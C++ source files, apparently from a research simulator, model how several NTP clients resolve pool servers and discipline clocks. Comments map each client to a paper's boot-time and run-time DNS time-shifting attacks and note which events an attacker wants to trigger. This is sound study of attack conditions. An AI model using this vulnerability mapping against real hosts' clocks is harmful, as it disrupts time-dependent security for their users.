  int consecutive_large_ = 0;
  u64 refills_ = 0;
};

}  // namespace dnstime::ntp
