#include "ntp/clients/ntpclient.h"

namespace dnstime::ntp {

NtpclientClient::NtpclientClient(net::NetStack& stack, SystemClock& clock,
                                 ClientBaseConfig base_config)
    : NtpClientBase(stack, clock, std::move(base_config)) {}

void NtpclientClient::start() {
  resolve(config_.pool_domains.front(),
          [this](const std::vector<dns::ResourceRecord>& answers) {
            if (!answers.empty()) server_ = answers.front().a;
            poll_loop();
          });
}

void NtpclientClient::poll_loop() {
  if (server_) {
    poll_server(*server_, [this](const PollResult& r) {
      if (r.responded) {
        discipline(r.offset, !first_sync_done_);
        first_sync_done_ = true;
      }
      // No response: nothing to do — the server address is fixed forever.
    });
  }
  stack_.loop().schedule_after(config_.poll_interval,
                               [this] { poll_loop(); });
}

AndroidSntpClient::AndroidSntpClient(net::NetStack& stack, SystemClock& clock,
                                     ClientBaseConfig base_config)
    : NtpClientBase(stack, clock, std::move(base_config)) {}

void AndroidSntpClient::start() { sync_once(); }

void AndroidSntpClient::sync_once() {
  // Fresh hostname resolution per sync — the defining behaviour.
  resolve(config_.pool_domains.front(),
          [this](const std::vector<dns::ResourceRecord>& answers) {
            if (answers.empty()) {
              stack_.loop().schedule_after(config_.poll_interval,
                                           [this] { sync_once(); });
              return;
            }
            last_server_ = answers.front().a;
            poll_server(*last_server_, [this](const PollResult& r) {
              if (r.responded) {
                // SNTP: apply directly, steps allowed.
                discipline(r.offset, /*at_boot=*/true);
              }
              stack_.loop().schedule_after(config_.poll_interval,
                                           [this] { sync_once(); });
            });
          });
}

}  // namespace dnstime::ntp
