// ntpclient model: minimal long-running SNTP client.
//
// Table I: boot-time only. Resolves its single server name once at start
// and never again; if the server dies, synchronisation silently stops
// (§V-A2).
#pragma once

#include "ntp/client_base.h"

namespace dnstime::ntp {

class NtpclientClient : public NtpClientBase {
 public:
  NtpclientClient(net::NetStack& stack, SystemClock& clock,
                  ClientBaseConfig base_config);

  void start() override;
  [[nodiscard]] std::string name() const override { return "ntpclient"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override {
    if (!server_) return {};
    return {*server_};
  }

 private:
  void poll_loop();

  std::optional<Ipv4Addr> server_;
  bool first_sync_done_ = false;
};

/// Android SNTP client model (NtpTrustedTime): resolves the configured
/// hostname on *every* synchronisation — "since the built-in NTP client is
/// always invoked by hostname, DNS lookups must be triggered every NTP
/// query if not answered from a local DNS cache" (§V-A2). Both boot-time
/// and run-time attacks apply.
class AndroidSntpClient : public NtpClientBase {
 public:
  AndroidSntpClient(net::NetStack& stack, SystemClock& clock,
                    ClientBaseConfig base_config);

  void start() override;
  [[nodiscard]] std::string name() const override { return "android-sntp"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override {
    if (!last_server_) return {};
    return {*last_server_};
  }

 private:
  void sync_once();

  std::optional<Ipv4Addr> last_server_;
};

}  // namespace dnstime::ntp
