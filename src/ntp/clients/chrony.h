// chrony client model.
//
// Table I: vulnerable to boot-time and run-time attacks. Differences from
// ntpd that matter here (§V): the default `pool` has 4 sources, a dead
// source is replaced individually via a fresh DNS lookup (no MINCLOCK
// batching), and chrony is more conservative about stepping at run-time —
// the paper measured 57 minutes to shift chrony vs 17 for ntpd (P1).
#pragma once

#include <memory>

#include "ntp/client_base.h"

namespace dnstime::ntp {

struct ChronyConfig {
  int sources = 4;  ///< default pool maxsources
  int demobilize_after_unanswered = 10;
  int rounds_before_step = 5;
};

class ChronyClient : public NtpClientBase {
 public:
  ChronyClient(net::NetStack& stack, SystemClock& clock,
               ClientBaseConfig base_config,
               ChronyConfig config = ChronyConfig{});

  void start() override;
  [[nodiscard]] std::string name() const override { return "chrony"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override;

  [[nodiscard]] u64 dns_refills() const { return refills_; }
  [[nodiscard]] std::size_t source_count() const { return sources_.size(); }

 private:
  void refill_from_dns();
  void poll_round();
  void run_selection();
  void maintain_sources();

  ChronyConfig config_chrony_;
  std::vector<std::unique_ptr<Association>> sources_;
  bool booting_ = true;
  bool refill_in_flight_ = false;
  int consecutive_large_ = 0;
  u64 refills_ = 0;
};

}  // namespace dnstime::ntp
