#include "ntp/clients/chrony.h"

#include "common/stats.h"
#include "obs/provenance.h"

namespace dnstime::ntp {

ChronyClient::ChronyClient(net::NetStack& stack, SystemClock& clock,
                           ClientBaseConfig base_config, ChronyConfig config)
    : NtpClientBase(stack, clock, std::move(base_config)),
      config_chrony_(config) {}

void ChronyClient::start() {
  refill_from_dns();
  stack_.loop().schedule_after(sim::Duration::seconds(2),
                               [this] { poll_round(); });
}

std::vector<Ipv4Addr> ChronyClient::current_servers() const {
  std::vector<Ipv4Addr> out;
  out.reserve(sources_.size());
  for (const auto& s : sources_) out.push_back(s->addr());
  return out;
}

void ChronyClient::refill_from_dns() {
  if (refill_in_flight_) return;
  refill_in_flight_ = true;
  refills_++;
  resolve(config_.pool_domains.front(),
          [this](const std::vector<dns::ResourceRecord>& answers) {
            refill_in_flight_ = false;
            for (const auto& rr : answers) {
              if (static_cast<int>(sources_.size()) >=
                  config_chrony_.sources) {
                break;
              }
              bool known = false;
              for (const auto& s : sources_) {
                if (s->addr() == rr.a) known = true;
              }
              if (!known && rr.a != stack_.addr()) {
                sources_.push_back(std::make_unique<Association>(rr.a));
                DNSTIME_PROV_EVENT(
                    peer_adopted(stack_.now().ns(),
                                 stack_.config().origin_module,
                                 rr.a.value()));
              }
            }
          });
}

void ChronyClient::poll_round() {
  auto outstanding = std::make_shared<int>(static_cast<int>(sources_.size()));
  if (*outstanding == 0) refill_from_dns();
  for (auto& source : sources_) {
    source->on_poll_sent();
    Association* s = source.get();
    poll_server(s->addr(), [this, s, outstanding](const PollResult& r) {
      if (r.kod) {
        s->on_kod(stack_.now());
      } else if (r.responded) {
        s->on_response(r.offset, r.delay, stack_.now());
      }
      if (--*outstanding == 0) {
        run_selection();
        maintain_sources();
      }
    });
  }
  stack_.loop().schedule_after(config_.poll_interval,
                               [this] { poll_round(); });
}

void ChronyClient::run_selection() {
  std::vector<double> offsets;
  for (const auto& s : sources_) {
    if (!s->reachable()) continue;
    auto off = s->filtered_offset();
    if (off) offsets.push_back(*off);
  }
  if (offsets.empty()) return;
  double combined = median(offsets);
  double mag = combined < 0 ? -combined : combined;

  auto stepped = [&](bool applied) {
    if (applied && mag > config_.step_threshold) {
      for (auto& s : sources_) s->clear_samples();
    }
    return applied;
  };
  if (booting_) {
    // makestep-style initial correction.
    if (stepped(discipline(combined, /*at_boot=*/true))) booting_ = false;
    return;
  }
  if (mag > config_.step_threshold) {
    if (++consecutive_large_ >= config_chrony_.rounds_before_step) {
      if (stepped(discipline(combined, /*at_boot=*/false))) {
        consecutive_large_ = 0;
      }
    }
  } else {
    consecutive_large_ = 0;
    discipline(combined, /*at_boot=*/false);
  }
}

void ChronyClient::maintain_sources() {
  // chrony replaces dead sources one-by-one via DNS; every removal
  // triggers a lookup rather than waiting for a low-water mark.
  std::size_t before = sources_.size();
  std::erase_if(sources_, [this](const std::unique_ptr<Association>& s) {
    return s->unanswered_polls() >=
           config_chrony_.demobilize_after_unanswered;
  });
  if (sources_.size() < before ||
      static_cast<int>(sources_.size()) < config_chrony_.sources) {
    refill_from_dns();
  }
}

}  // namespace dnstime::ntp
