// openntpd client model.
//
// Table I: boot-time vulnerable only. §V-A2: "openntpd and ntpclient do
// not support DNS queries during run-time at all, so hindering
// communication with the used servers will just disable time
// synchronisation until the client is restarted." The optional HTTPS
// date-header constraint (§V-A1) is modelled as a sanity bound on accepted
// offsets; it is off by default, as in the real client.
#pragma once

#include <memory>

#include "ntp/client_base.h"

namespace dnstime::ntp {

struct OpenntpdConfig {
  int servers_from_dns = 4;
  /// If >= 0: the TLS "constraint" — reject offsets larger than this many
  /// seconds from the HTTPS-derived reference (we treat true time as the
  /// reference). -1 disables, the default configuration.
  double constraint_window = -1.0;
};

class OpenntpdClient : public NtpClientBase {
 public:
  OpenntpdClient(net::NetStack& stack, SystemClock& clock,
                 ClientBaseConfig base_config,
                 OpenntpdConfig config = OpenntpdConfig{});

  void start() override;
  [[nodiscard]] std::string name() const override { return "openntpd"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override;

  /// Simulated process restart: exactly what cron/watchdog/reboot does;
  /// re-runs the boot-time DNS lookup (the only lookup openntpd makes).
  void restart();

  [[nodiscard]] bool synchronised() const { return !booting_; }

 private:
  void poll_round();
  void run_selection();

  OpenntpdConfig config_ontpd_;
  std::vector<std::unique_ptr<Association>> peers_;
  bool booting_ = true;
  bool poll_loop_running_ = false;
};

}  // namespace dnstime::ntp
