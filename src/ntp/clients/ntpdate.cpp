#include "ntp/clients/ntpdate.h"

#include "common/stats.h"

namespace dnstime::ntp {

NtpdateClient::NtpdateClient(net::NetStack& stack, SystemClock& clock,
                             ClientBaseConfig base_config)
    : NtpClientBase(stack, clock, std::move(base_config)) {}

void NtpdateClient::start() {
  run([](double) {});
}

void NtpdateClient::run(std::function<void(double)> on_done) {
  invocations_++;
  resolve(config_.pool_domains.front(),
          [this, on_done](const std::vector<dns::ResourceRecord>& answers) {
            last_servers_.clear();
            for (const auto& rr : answers) last_servers_.push_back(rr.a);
            if (last_servers_.empty()) {
              on_done(0.0);
              return;
            }
            auto offsets = std::make_shared<std::vector<double>>();
            auto outstanding =
                std::make_shared<int>(static_cast<int>(last_servers_.size()));
            for (Ipv4Addr server : last_servers_) {
              poll_server(server, [this, offsets, outstanding,
                                   on_done](const PollResult& r) {
                if (r.responded) offsets->push_back(r.offset);
                if (--*outstanding == 0) {
                  if (offsets->empty()) {
                    on_done(0.0);
                    return;
                  }
                  double combined = median(*offsets);
                  // ntpdate -b: always step, no panic limit.
                  clock_.step(combined, stack_.now());
                  on_done(combined);
                }
              });
            }
          });
}

}  // namespace dnstime::ntp
