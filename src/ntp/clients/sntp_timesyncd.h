// systemd-timesyncd client model (SNTP).
//
// §V-B3: "it holds only a single association to one NTP server but caches
// the list of servers from the last DNS query, which by default contains 3
// more server addresses additional to the one used. As these servers will
// be queried before a DNS query is triggered, the attacker is required to
// attack associations to all of them" — run-time probability P1(4).
#pragma once

#include "ntp/client_base.h"

namespace dnstime::ntp {

struct TimesyncdConfig {
  /// Consecutive failed polls before moving to the next cached server.
  int retries_per_server = 2;
};

class TimesyncdClient : public NtpClientBase {
 public:
  TimesyncdClient(net::NetStack& stack, SystemClock& clock,
                  ClientBaseConfig base_config,
                  TimesyncdConfig config = TimesyncdConfig{});

  void start() override;
  [[nodiscard]] std::string name() const override {
    return "systemd-timesyncd";
  }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override;

  [[nodiscard]] std::optional<Ipv4Addr> active_server() const {
    if (server_list_.empty()) return std::nullopt;
    return server_list_[index_];
  }
  [[nodiscard]] u64 dns_lookups() const { return lookups_; }

 private:
  void lookup_and_restart();
  void poll_once();

  TimesyncdConfig config_tsd_;
  std::vector<Ipv4Addr> server_list_;  ///< cached from the last DNS answer
  std::size_t index_ = 0;
  int failures_ = 0;
  bool first_sync_done_ = false;
  bool lookup_in_flight_ = false;
  u64 lookups_ = 0;
};

}  // namespace dnstime::ntp
