#include "ntp/clients/sntp_timesyncd.h"

namespace dnstime::ntp {

TimesyncdClient::TimesyncdClient(net::NetStack& stack, SystemClock& clock,
                                 ClientBaseConfig base_config,
                                 TimesyncdConfig config)
    : NtpClientBase(stack, clock, std::move(base_config)),
      config_tsd_(config) {}

void TimesyncdClient::start() { lookup_and_restart(); }

std::vector<Ipv4Addr> TimesyncdClient::current_servers() const {
  return server_list_;
}

void TimesyncdClient::lookup_and_restart() {
  if (lookup_in_flight_) return;
  lookup_in_flight_ = true;
  lookups_++;
  resolve(config_.pool_domains.front(),
          [this](const std::vector<dns::ResourceRecord>& answers) {
            lookup_in_flight_ = false;
            server_list_.clear();
            for (const auto& rr : answers) server_list_.push_back(rr.a);
            index_ = 0;
            failures_ = 0;
            if (server_list_.empty()) {
              // DNS failed: back off and retry the lookup.
              stack_.loop().schedule_after(sim::Duration::seconds(30),
                                           [this] { lookup_and_restart(); });
              return;
            }
            poll_once();
          });
}

void TimesyncdClient::poll_once() {
  if (server_list_.empty()) {
    lookup_and_restart();
    return;
  }
  Ipv4Addr server = server_list_[index_];
  poll_server(server, [this](const PollResult& r) {
    if (r.responded) {
      failures_ = 0;
      // SNTP: apply every response directly (timesyncd steps large
      // offsets regardless of uptime).
      discipline(r.offset, /*at_boot=*/!first_sync_done_ || true);
      first_sync_done_ = true;
      stack_.loop().schedule_after(config_.poll_interval,
                                   [this] { poll_once(); });
      return;
    }
    // Timeout or KoD: count a failure against the current server.
    if (++failures_ >= config_tsd_.retries_per_server) {
      failures_ = 0;
      index_++;
      if (index_ >= server_list_.size()) {
        // Cached list exhausted -> the run-time DNS query the attacker
        // wants to trigger.
        lookup_and_restart();
        return;
      }
    }
    stack_.loop().schedule_after(config_.poll_interval / 4,
                                 [this] { poll_once(); });
  });
}

}  // namespace dnstime::ntp
