#include "ntp/clients/openntpd.h"

#include "common/stats.h"
#include "obs/provenance.h"

namespace dnstime::ntp {

OpenntpdClient::OpenntpdClient(net::NetStack& stack, SystemClock& clock,
                               ClientBaseConfig base_config,
                               OpenntpdConfig config)
    : NtpClientBase(stack, clock, std::move(base_config)),
      config_ontpd_(config) {}

void OpenntpdClient::start() {
  // The single DNS lookup of this implementation's lifetime.
  resolve(config_.pool_domains.front(),
          [this](const std::vector<dns::ResourceRecord>& answers) {
            for (const auto& rr : answers) {
              if (static_cast<int>(peers_.size()) >=
                  config_ontpd_.servers_from_dns) {
                break;
              }
              peers_.push_back(std::make_unique<Association>(rr.a));
              DNSTIME_PROV_EVENT(
                  peer_adopted(stack_.now().ns(),
                               stack_.config().origin_module,
                               rr.a.value()));
            }
          });
  if (!poll_loop_running_) {
    poll_loop_running_ = true;
    stack_.loop().schedule_after(sim::Duration::seconds(2),
                                 [this] { poll_round(); });
  }
}

void OpenntpdClient::restart() {
  peers_.clear();
  booting_ = true;
  start();
}

std::vector<Ipv4Addr> OpenntpdClient::current_servers() const {
  std::vector<Ipv4Addr> out;
  out.reserve(peers_.size());
  for (const auto& p : peers_) out.push_back(p->addr());
  return out;
}

void OpenntpdClient::poll_round() {
  auto outstanding = std::make_shared<int>(static_cast<int>(peers_.size()));
  for (auto& peer : peers_) {
    peer->on_poll_sent();
    Association* p = peer.get();
    poll_server(p->addr(), [this, p, outstanding](const PollResult& r) {
      if (r.kod) {
        p->on_kod(stack_.now());
      } else if (r.responded) {
        p->on_response(r.offset, r.delay, stack_.now());
      }
      if (--*outstanding == 0) run_selection();
    });
  }
  // NB: dead peers are never replaced — no DNS at run-time.
  stack_.loop().schedule_after(config_.poll_interval,
                               [this] { poll_round(); });
}

void OpenntpdClient::run_selection() {
  std::vector<double> offsets;
  for (const auto& p : peers_) {
    if (!p->reachable()) continue;
    auto off = p->filtered_offset();
    if (off) offsets.push_back(*off);
  }
  if (offsets.empty()) return;
  double combined = median(offsets);

  if (config_ontpd_.constraint_window >= 0) {
    // HTTPS Date-header constraint: |proposed clock - true time| must stay
    // within the window. clock.offset() + combined is the post-adjustment
    // offset from true time.
    double post = clock_.offset() + combined;
    if (post > config_ontpd_.constraint_window ||
        post < -config_ontpd_.constraint_window) {
      return;  // constraint rejects the shift
    }
  }
  double mag = combined < 0 ? -combined : combined;
  if (discipline(combined, booting_)) {
    booting_ = false;
    if (mag > config_.step_threshold) {
      for (auto& p : peers_) p->clear_samples();
    }
  }
}

}  // namespace dnstime::ntp
