#include "ntp/clients/ntpd.h"

#include "common/stats.h"
#include "obs/provenance.h"

namespace dnstime::ntp {

NtpdClient::NtpdClient(net::NetStack& stack, SystemClock& clock,
                       ClientBaseConfig base_config, NtpdConfig config)
    : NtpClientBase(stack, clock, std::move(base_config)),
      config_ntpd_(config) {}

void NtpdClient::start() {
  refill_from_dns();
  // iburst-style quick start, then the regular poll cadence.
  stack_.loop().schedule_after(sim::Duration::seconds(2),
                               [this] { poll_round(); });
}

std::vector<Ipv4Addr> NtpdClient::current_servers() const {
  std::vector<Ipv4Addr> out;
  out.reserve(assocs_.size());
  for (const auto& a : assocs_) out.push_back(a->addr());
  return out;
}

void NtpdClient::refill_from_dns() {
  if (refill_in_flight_) return;
  refill_in_flight_ = true;
  refills_++;
  resolve(config_.pool_domains.front(),
          [this](const std::vector<dns::ResourceRecord>& answers) {
            refill_in_flight_ = false;
            for (const auto& rr : answers) {
              if (static_cast<int>(assocs_.size()) >=
                  config_ntpd_.max_servers) {
                break;
              }
              bool known = false;
              for (const auto& a : assocs_) {
                if (a->addr() == rr.a) known = true;
              }
              if (!known && rr.a != stack_.addr()) {
                assocs_.push_back(std::make_unique<Association>(rr.a));
                DNSTIME_PROV_EVENT(
                    peer_adopted(stack_.now().ns(),
                                 stack_.config().origin_module,
                                 rr.a.value()));
              }
            }
          });
}

void NtpdClient::poll_round() {
  auto outstanding = std::make_shared<int>(static_cast<int>(assocs_.size()));
  if (*outstanding == 0) {
    // No associations at all (e.g. DNS failed at boot): retry DNS.
    refill_from_dns();
  }
  for (auto& assoc : assocs_) {
    assoc->on_poll_sent();
    Association* a = assoc.get();
    poll_server(a->addr(), [this, a, outstanding](const PollResult& r) {
      if (r.kod) {
        a->on_kod(stack_.now());
      } else if (r.responded) {
        a->on_response(r.offset, r.delay, stack_.now());
      }
      if (--*outstanding == 0) {
        run_selection();
        maintain_associations();
      }
    });
  }
  stack_.loop().schedule_after(config_.poll_interval,
                               [this] { poll_round(); });
}

void NtpdClient::run_selection() {
  std::vector<double> offsets;
  for (const auto& a : assocs_) {
    if (!a->reachable()) continue;
    auto off = a->filtered_offset();
    if (off) offsets.push_back(*off);
  }
  if (offsets.empty()) return;
  double combined = median(offsets);

  // System peer: the reachable association closest to the combined offset
  // (exposed via the co-located server's refid).
  Association* peer = nullptr;
  double best = 1e18;
  for (const auto& a : assocs_) {
    if (!a->reachable()) continue;
    auto off = a->filtered_offset();
    if (!off) continue;
    double dist = *off > combined ? *off - combined : combined - *off;
    if (dist < best) {
      best = dist;
      peer = a.get();
    }
  }
  if (peer) {
    if (peer->addr() != system_peer_) {
      DNSTIME_PROV_EVENT(peer_selected(stack_.now().ns(),
                                       stack_.config().origin_module,
                                       peer->addr().value()));
    }
    system_peer_ = peer->addr();
    if (attached_server_) attached_server_->set_upstream(system_peer_);
  }

  double mag = combined < 0 ? -combined : combined;
  auto stepped = [&](bool applied) {
    // After a step the pre-step filter samples are meaningless; clear
    // them, as ntpd clears its filter registers.
    if (applied && mag > config_.step_threshold) {
      for (auto& a : assocs_) a->clear_samples();
    }
    return applied;
  };
  if (booting_) {
    if (stepped(discipline(combined, /*at_boot=*/true))) booting_ = false;
    return;
  }
  if (mag > config_.step_threshold) {
    // Steps require the offset to persist across rounds — ntpd waits for
    // the clock filter and stepout interval before trusting a large shift.
    if (++consecutive_large_ >= config_ntpd_.rounds_before_step) {
      if (stepped(discipline(combined, /*at_boot=*/false))) {
        consecutive_large_ = 0;
      }
    }
  } else {
    consecutive_large_ = 0;
    discipline(combined, /*at_boot=*/false);
  }
}

void NtpdClient::maintain_associations() {
  std::erase_if(assocs_, [this](const std::unique_ptr<Association>& a) {
    return a->unanswered_polls() >= config_ntpd_.demobilize_after_unanswered;
  });
  // The pool directive keeps mobilising associations until NTP_MAXCLOCK;
  // run-time *replacement* lookups additionally trigger when the count
  // falls below NTP_MINCLOCK. Queries are usually answered from the
  // resolver's cache (TTL 150 s), so this stays cheap.
  if (static_cast<int>(assocs_.size()) < config_ntpd_.min_clock ||
      static_cast<int>(assocs_.size()) < config_ntpd_.max_servers) {
    refill_from_dns();
  }
}

}  // namespace dnstime::ntp
