// ntpdate model: one-shot command-line synchroniser.
//
// Table I: boot-time attack only ("this utility is often used as part of a
// regularly run cronjob, so boot-time attacks against this client can be
// done any time the program is invoked" — §V-A2). Every run() is a fresh
// boot: resolve, query all returned servers, apply the median offset, exit.
#pragma once

#include "ntp/client_base.h"

namespace dnstime::ntp {

class NtpdateClient : public NtpClientBase {
 public:
  NtpdateClient(net::NetStack& stack, SystemClock& clock,
                ClientBaseConfig base_config);

  /// Launch one invocation; `on_done(applied_offset)` fires when it exits
  /// (applied_offset = 0.0 when no server answered).
  void run(std::function<void(double)> on_done);

  /// NtpClientBase interface: start == one cron invocation.
  void start() override;
  [[nodiscard]] std::string name() const override { return "ntpdate"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override {
    return last_servers_;
  }

  [[nodiscard]] u64 invocations() const { return invocations_; }

 private:
  std::vector<Ipv4Addr> last_servers_;
  u64 invocations_ = 0;
};

}  // namespace dnstime::ntp
