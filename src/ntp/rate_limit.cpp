#include "ntp/rate_limit.h"

#include <algorithm>

namespace dnstime::ntp {

RateLimiter::Action RateLimiter::limited_action(SourceState& st) {
  if (config_.leak_probability > 0 && rng_.chance(config_.leak_probability)) {
    return Action::kRespond;
  }
  if (config_.send_kod && !st.kod_sent) {
    st.kod_sent = true;
    return Action::kKod;
  }
  return Action::kDrop;
}

RateLimiter::Action RateLimiter::check(Ipv4Addr src, sim::Time now) {
  if (!config_.enabled) return Action::kRespond;
  auto [it, inserted] = sources_.try_emplace(src);
  SourceState& st = it->second;
  if (inserted) st.tokens = config_.burst;

  if (st.seen) {
    sim::Duration gap = now - st.last_arrival;
    if (gap < config_.min_gap) {
      // `discard minimum` violation: unconditional refusal. The arrival
      // still rolls the window forward and bleeds the bucket (ntpd's
      // average worsens with every sub-gap packet), so a continuous
      // sub-gap flood blocks the source address entirely.
      st.last_arrival = now;
      st.tokens = std::max(0.0, st.tokens - 1.0);
      return limited_action(st);
    }
    st.tokens = std::min(
        config_.burst,
        st.tokens + gap.to_seconds() / config_.avg_interval.to_seconds());
  }
  st.last_arrival = now;
  st.seen = true;

  if (st.tokens >= 1.0) {
    st.tokens -= 1.0;
    st.kod_sent = false;
    return Action::kRespond;
  }
  return limited_action(st);
}

bool RateLimiter::is_limited(Ipv4Addr src, sim::Time now) const {
  if (!config_.enabled) return false;
  auto it = sources_.find(src);
  if (it == sources_.end()) return false;
  const SourceState& st = it->second;
  if (!st.seen) return false;
  sim::Duration gap = now - st.last_arrival;
  if (gap < config_.min_gap) return true;
  double tokens = std::min(
      config_.burst,
      st.tokens + gap.to_seconds() / config_.avg_interval.to_seconds());
  return tokens < 1.0;
}

}  // namespace dnstime::ntp
