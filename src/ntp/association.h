// Client-side association state for one NTP server, including the 8-bit
// reachability shift register (RFC 5905 §9.2) whose draining is what the
// run-time attack induces.
#pragma once

#include <deque>
#include <optional>

#include "common/types.h"
#include "sim/time.h"

namespace dnstime::ntp {

class Association {
 public:
  explicit Association(Ipv4Addr addr) : addr_(addr) {}

  [[nodiscard]] Ipv4Addr addr() const { return addr_; }

  /// Record a poll being sent: shifts the reachability register left.
  void on_poll_sent();
  /// Record a usable mode-4 response with the measured offset/delay.
  void on_response(double offset, double delay, sim::Time now);
  /// Record a Kiss-o'-Death from the server.
  void on_kod(sim::Time now);

  [[nodiscard]] bool reachable() const { return reach_ != 0; }
  [[nodiscard]] u8 reach() const { return reach_; }
  /// Polls sent since the last response.
  [[nodiscard]] int unanswered_polls() const { return unanswered_; }
  [[nodiscard]] u64 responses() const { return responses_; }
  [[nodiscard]] bool got_kod() const { return kods_ > 0; }

  /// Clock-filtered offset: the sample with minimum delay among the last 8
  /// (RFC 5905 clock filter essence). Ties prefer the newest sample.
  [[nodiscard]] std::optional<double> filtered_offset() const;

  /// Drop accumulated samples. Clients call this after stepping the local
  /// clock — pre-step samples are measured against a clock that no longer
  /// exists (ntpd likewise clears its filter registers on a step).
  void clear_samples() { samples_.clear(); }
  [[nodiscard]] std::optional<double> last_offset() const;
  [[nodiscard]] std::optional<sim::Time> last_response_at() const {
    return last_response_;
  }

 private:
  struct Sample {
    double offset;
    double delay;
  };
  Ipv4Addr addr_;
  u8 reach_ = 0;
  int unanswered_ = 0;
  u64 responses_ = 0;
  u64 kods_ = 0;
  std::deque<Sample> samples_;
  std::optional<sim::Time> last_response_;
};

}  // namespace dnstime::ntp
