// Shared machinery for all NTP client models: DNS pool resolution through
// the host's configured recursive resolver, mode-3 poll transactions with
// offset/delay computation, and clock discipline with step/panic
// thresholds.
//
// Each concrete client in ntp/clients/ reproduces the DNS-lookup and
// association-management behaviour of one real implementation from the
// paper's Table I; those behavioural differences — not the NTP arithmetic —
// decide which attack (boot-time/run-time) applies.
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "dns/resolver.h"
#include "ntp/association.h"
#include "ntp/clock.h"
#include "ntp/packet.h"

namespace dnstime::ntp {

struct ClientBaseConfig {
  /// DNS name(s) of the server pool (default mirrors real configs).
  std::vector<std::string> pool_domains = {"pool.ntp.org"};
  /// Recursive resolver this host is configured with.
  Ipv4Addr resolver;
  sim::Duration poll_interval = sim::Duration::seconds(64);
  sim::Duration poll_timeout = sim::Duration::seconds(2);
  /// Offsets above this are stepped rather than slewed (ntpd: 128 ms).
  double step_threshold = 0.128;
  /// Offsets above this are refused at run-time (ntpd panic: 1000 s).
  double panic_threshold = 1000.0;
  /// Accept any offset at boot (ntpd -g semantics; §V-A1: limits "are
  /// explicitly not enforced at boot-time").
  bool allow_panic_at_boot = true;
};

/// Result of one poll transaction.
struct PollResult {
  bool responded = false;
  bool kod = false;
  double offset = 0.0;  ///< server clock minus client clock, seconds
  double delay = 0.0;   ///< round-trip minus server processing, seconds
  NtpPacket packet;
};

class NtpClientBase {
 public:
  NtpClientBase(net::NetStack& stack, SystemClock& clock,
                ClientBaseConfig config);
  virtual ~NtpClientBase() = default;

  NtpClientBase(const NtpClientBase&) = delete;
  NtpClientBase& operator=(const NtpClientBase&) = delete;

  /// Boot the client (initial DNS lookups + polling).
  virtual void start() = 0;
  /// Human-readable implementation name (Table I row).
  [[nodiscard]] virtual std::string name() const = 0;

  [[nodiscard]] SystemClock& clock() { return clock_; }
  [[nodiscard]] const SystemClock& clock() const { return clock_; }
  [[nodiscard]] net::NetStack& stack() { return stack_; }
  [[nodiscard]] u64 dns_queries() const { return stub_.queries_sent(); }
  [[nodiscard]] const ClientBaseConfig& base_config() const { return config_; }

  /// Addresses of currently usable upstream servers (for tests/attacks).
  [[nodiscard]] virtual std::vector<Ipv4Addr> current_servers() const = 0;

 protected:
  using PollCallback = std::function<void(const PollResult&)>;

  /// Send one mode-3 query to `server` and deliver the outcome (response,
  /// KoD, or timeout) to `cb`.
  void poll_server(Ipv4Addr server, PollCallback cb);

  /// Resolve `domain` A records via the configured resolver.
  void resolve(const std::string& domain, dns::StubResolver::Callback cb);

  /// Apply one measured offset to the local clock under the configured
  /// step/panic policy. Returns true if the clock changed.
  bool discipline(double offset, bool at_boot);

  net::NetStack& stack_;
  SystemClock& clock_;
  ClientBaseConfig config_;
  dns::StubResolver stub_;
};

}  // namespace dnstime::ntp
