// NTP packet codec (RFC 5905 48-byte header) plus the mode-6 control
// ("config interface") messages whose exposure the paper measures (§IV-B2c:
// 5.3% of pool servers answer configuration queries).
#pragma once

#include <optional>
#include <vector>

#include "common/bytes.h"
#include "common/types.h"

namespace dnstime::ntp {

enum class Mode : u8 {
  kSymmetricActive = 1,
  kSymmetricPassive = 2,
  kClient = 3,
  kServer = 4,
  kBroadcast = 5,
  kControl = 6,
};

/// Kiss-o'-Death codes are ASCII refids on stratum-0 packets.
inline constexpr u32 kKodRate = 0x52415445;  // "RATE"

struct NtpPacket {
  u8 leap = 0;
  u8 version = 4;
  Mode mode = Mode::kClient;
  u8 stratum = 0;
  u8 poll = 6;
  i8 precision = -20;
  u32 root_delay = 0;       ///< 16.16 fixed seconds
  u32 root_dispersion = 0;  ///< 16.16 fixed seconds
  u32 refid = 0;  ///< stratum 1: source tag; stratum >=2: upstream IPv4
  double ref_time = 0;  ///< wall seconds, NTP era
  double org_time = 0;  ///< T1: client transmit, echoed by server
  double rx_time = 0;   ///< T2: server receive
  double tx_time = 0;   ///< T3: server transmit

  [[nodiscard]] bool is_kod() const { return stratum == 0 && refid != 0; }
  [[nodiscard]] bool is_rate_kod() const {
    return stratum == 0 && refid == kKodRate;
  }
};

[[nodiscard]] Bytes encode_ntp(const NtpPacket& pkt);
/// Pooled-buffer encode for the send paths (clients, servers, floods).
[[nodiscard]] PacketBuf encode_ntp_buf(const NtpPacket& pkt);
[[nodiscard]] NtpPacket decode_ntp(std::span<const u8> data);

/// Mode-6/7 "configuration interface" messages. Real ntpd exposes peer
/// lists via `ntpq -c peers` / mode 7 `monlist`; we model the information
/// content: a request opcode and a response carrying the server's
/// configured hostname(s) and upstream addresses.
struct ConfigRequest {};

struct ConfigResponse {
  std::vector<Ipv4Addr> upstream_addrs;
  std::string configured_hostname;
};

[[nodiscard]] Bytes encode_config_request();
[[nodiscard]] bool is_config_request(std::span<const u8> data);
[[nodiscard]] Bytes encode_config_response(const ConfigResponse& resp);
[[nodiscard]] PacketBuf encode_config_response_buf(const ConfigResponse& resp);
[[nodiscard]] std::optional<ConfigResponse> decode_config_response(
    std::span<const u8> data);

}  // namespace dnstime::ntp
