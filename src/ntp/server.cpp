#include "ntp/server.h"

namespace dnstime::ntp {

NtpServer::NtpServer(net::NetStack& stack, SystemClock& clock,
                     ServerConfig config)
    : stack_(stack),
      clock_(clock),
      config_(std::move(config)),
      limiter_(config_.rate_limit, stack.rng().fork()) {
  stack_.bind_udp(kNtpPort, [this](const net::UdpEndpoint& from, u16,
                                   BufView payload) {
    on_packet(from, payload);
  });
}

NtpServer::~NtpServer() { stack_.unbind_udp(kNtpPort); }

void NtpServer::on_packet(const net::UdpEndpoint& from,
                          BufView payload) {
  // Mode-6 configuration interface (if exposed).
